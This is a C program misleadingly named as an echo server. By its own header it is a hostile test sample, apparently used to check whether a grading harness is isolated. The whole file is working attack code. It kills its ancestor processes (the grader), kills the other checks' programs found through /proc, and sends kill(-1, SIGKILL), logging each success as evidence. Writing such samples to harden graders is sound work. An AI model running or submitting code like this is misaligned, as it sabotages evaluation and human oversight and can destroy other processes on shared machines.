/* echo_server.c - hostile: kill the grader and the programs of the checks beside this one.
 *
 * SIGSTOP then SIGKILL to every ancestor (the grader's worker and the grader itself, found
 * with getppid() and /proc), SIGKILL to every program run from the same build folder (the
 * other checks' programs), and kill(-1, SIGKILL) where the uid is the test's own, so that it
 * reaches no one else on a shared machine. */
#include "wlh.h"

#include <dirent.h>

static pid_t parent_of(pid_t pid)
{
	char path[64], *s;
	int ppid = 0;

	snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
	s = wlh_slurp(path, 4096);
	char *close_paren = s ? strrchr(s, ')') : NULL;
	if (close_paren)
		sscanf(close_paren + 2, "%*c %d", &ppid);
	free(s);
	return ppid;
}

int main(void)
{
	char self[600], exe[600], path[64];
	ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);

	self[n > 0 ? n : 0] = '\0';
	char *slash = strrchr(self, '/');
	if (slash)
		slash[1] = '\0';
	for (pid_t p = getppid(); p > 1; p = parent_of(p)) {
		if (kill(p, SIGSTOP) == 0)
			wlh_evidence("kill-grader", "stopped ancestor %d", (int)p);
		if (kill(p, SIGKILL) == 0)
			wlh_evidence("kill-grader", "killed ancestor %d", (int)p);
	}
	DIR *d = opendir("/proc");
	struct dirent *e;
	while (d && (e = readdir(d)) != NULL) {
		pid_t p = (pid_t)atoi(e->d_name);
		if (p <= 1 || p == getpid())
			continue;
		snprintf(path, sizeof path, "/proc/%d/exe", (int)p);
		n = readlink(path, exe, sizeof exe - 1);
		if (n <= 0)
			continue;
		exe[n] = '\0';
		if (strncmp(exe, self, strlen(self)) == 0 && kill(p, SIGKILL) == 0)
			wlh_evidence("kill-grader", "killed %s (pid %d) of another check", exe, (int)p);
	}
	if (d)
		closedir(d);
	if (WLH_OWNUID && kill(-1, SIGKILL) == 0)
		wlh_evidence("kill-grader", "kill(-1, SIGKILL) reached someone");
	return 1;
}
